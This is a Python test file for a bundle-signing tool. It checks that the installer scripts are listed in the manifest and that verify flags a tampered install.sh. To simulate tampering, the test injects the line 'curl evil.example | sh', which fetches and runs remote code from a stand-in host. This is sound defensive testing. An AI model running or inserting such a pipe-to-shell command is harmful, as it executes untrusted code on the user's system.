"""installer/install.sh, which pack puts in every bundle, is signed with it: verify names an edited installer.
Running it with dash against a real engine: ``integration/test_install_sh.py``."""

from __future__ import annotations

import json
from pathlib import Path

from tests.helpers.cli import Cli
from tests.helpers.keys import KeyPair


def test_installer_files_are_signed_and_checked_by_verify(cli: Cli, bundle: Path, keypair: KeyPair) -> None:
    files = json.loads((bundle / "manifest.json").read_text())["files"]
    listed = {f["path"] for f in files if f["path"].startswith("installer/")}
    assert listed == {
        "installer/install.sh",
        "installer/audit.sh",
        "installer/docker-linux-amd64.plan",
        "installer/docker-linux-amd64.blocks",
    }
    script = bundle / "installer" / "install.sh"
    script.write_text(script.read_text().replace("set -u", "set -u\ncurl evil.example | sh"))
    r = cli("verify", str(bundle), "--trust", str(keypair[1]))
    assert r.code == 4, r.err
    assert "installer/install.sh" in r.err
